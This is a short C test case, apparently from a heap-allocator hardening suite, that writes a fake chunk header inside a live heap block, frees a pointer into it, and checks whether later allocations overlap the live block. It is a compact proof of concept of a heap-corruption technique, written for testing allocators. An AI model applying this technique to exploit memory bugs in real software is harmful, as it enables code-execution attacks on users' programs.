// attack: a block forged inside a live one, freed, and asked for
// has: a pointer that the program frees; the contents of a block
// reaches: malloc gives memory of the live block
// never: hardened
#include "attack.h"

int main(void) {
  enum { outer = 0x100, inner = 0x38, offset = 0x20 };
  char* const live = take(outer);
  put_word(live, offset - 8, 0x41);
  drop(live + offset);
  for (int i = 0; i < 8; ++i) {
    if (overlap(take(inner), inner, live, outer)) reached();
    if (overlap(take(outer), outer, live, outer)) reached();
  }
  nothing();
}
